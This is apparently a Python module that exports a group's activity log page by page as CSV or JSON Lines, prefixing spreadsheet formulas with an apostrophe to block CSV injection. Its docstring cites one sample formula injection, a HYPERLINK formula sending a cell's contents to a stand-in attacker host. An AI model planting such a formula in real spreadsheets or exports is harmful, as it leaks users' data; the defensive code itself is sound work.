"""An activity log as CSV or JSON Lines: every field of every entry, a page at a time.

CSV is for spreadsheets: it starts with a UTF-8 byte-order mark (without one, Excel reads
UTF-8 as the system's code page: "NÃºÃ±ez"), and a text cell that a spreadsheet would take
for a formula gets a leading ``'`` (OWASP's advice on CSV injection): a member named
``=HYPERLINK("https://evil.example/?leak="&A1,"x")`` is shown, never run. JSON Lines,
for programs, keeps every value exact.
"""

from __future__ import annotations

import asyncio
import csv
import io
import json
import re
from collections.abc import Awaitable, Callable
from datetime import datetime
from pathlib import Path
from typing import Any

from ..api.library import Library
from ..api.models.activity import ActivityEntry
from ..api.params import ActivityQuery
from ..render.convert import entry_text
from ..render.safety import clean
from ..render.when import iso_local
from .output import Output

__all__ = [
    "FIELDS",
    "FORMATS",
    "activity_file_name",
    "activity_row",
    "export_activity",
    "export_activity_file",
    "neutralised",
]

FORMATS = ("csv", "jsonl")
FIELDS = ("id", "created", "group_id", "via", "text", "entry")
BOM = "\ufeff"

# What starts a formula: = + - @ after any spaces (spreadsheets skip them), or a tab or a
# carriage return as the very first character.
_FORMULA = re.compile(r"^(?:[\t\r]|\s*[=+\-@])")

Progress = Callable[[int, int | None], None]
Write = Callable[[str], Awaitable[None]]
_UNSAFE_NAME = re.compile(r"[^\w+.-]")


def activity_row(entry: ActivityEntry) -> dict[str, Any]:
    """One entry: its fields, the HTML flattened to ``text`` and kept as ``entry``."""
    return {
        "id": entry.id,
        "created": iso_local(entry.created),  # local, with its offset, as the reader's
        "group_id": entry.group_id,
        "via": clean(entry.via),
        "text": entry_text(entry.entry).plain,
        "entry": clean(entry.entry),
    }


def neutralised(value: Any) -> Any:
    """A text cell a spreadsheet would run as a formula, made text with a leading ``'``.

    Numbers are ours (ids), never a formula: they stay numbers.
    """
    if isinstance(value, str) and _FORMULA.match(value):
        return "'" + value
    return value


def _csv_lines(rows: list[dict[str, Any]], *, header: bool) -> str:
    buffer = io.StringIO()
    writer = csv.DictWriter(buffer, fieldnames=FIELDS, lineterminator="\n")
    if header:
        buffer.write(BOM)
        writer.writeheader()
    writer.writerows({name: neutralised(value) for name, value in row.items()} for row in rows)
    return buffer.getvalue()


def _jsonl_lines(rows: list[dict[str, Any]]) -> str:
    return "".join(json.dumps(row, ensure_ascii=False) + "\n" for row in rows)


async def export_activity(
    library: Library,
    group_name: str,
    query: ActivityQuery,
    form: str,
    write: Write,
    progress: Progress,
) -> int:
    """Write the log as the query filters it; returns how many entries were written.

    Each page goes out in one write of whole lines (CSV starts with its header), so an
    export stopped at any point leaves complete records.
    """
    cursor = library.activity(group_name, query)
    written = 0
    if form == "csv":
        await write(_csv_lines([], header=True))
    while (page := await cursor.next_page()) is not None:
        rows = [activity_row(entry) for entry in page.data]
        await write(_csv_lines(rows, header=False) if form == "csv" else _jsonl_lines(rows))
        written += len(rows)
        progress(written, cursor.total_count)
    return written


def activity_file_name(group_name: str) -> str:
    """A name for a new CSV export of a group's log, unique to the second."""
    stamp = datetime.now().strftime("%Y%m%d-%H%M%S")
    return f"lurker-activity-{_UNSAFE_NAME.sub('_', group_name)}-{stamp}.csv"


async def export_activity_file(
    library: Library, group_name: str, query: ActivityQuery, path: Path
) -> tuple[Path, int]:
    """The log as the query filters it, as CSV in the file ``path``.

    For the reader's ``e``: the file is opened, written and closed off the event loop, and
    appears only once whole. Returns the file and how many entries it holds.
    """
    output = Output(path)
    await asyncio.to_thread(output.__enter__)
    try:

        async def write(text: str) -> None:
            await asyncio.to_thread(output.write, text)

        written = await export_activity(library, group_name, query, "csv", write, _quiet)
        await asyncio.to_thread(output.commit)  # a failed export leaves no file
    finally:
        await asyncio.to_thread(output.__exit__, None, None, None)
    return path, written


def _quiet(written: int, total: int | None) -> None:
    """No progress to show: the reader says where the file is when it is done."""
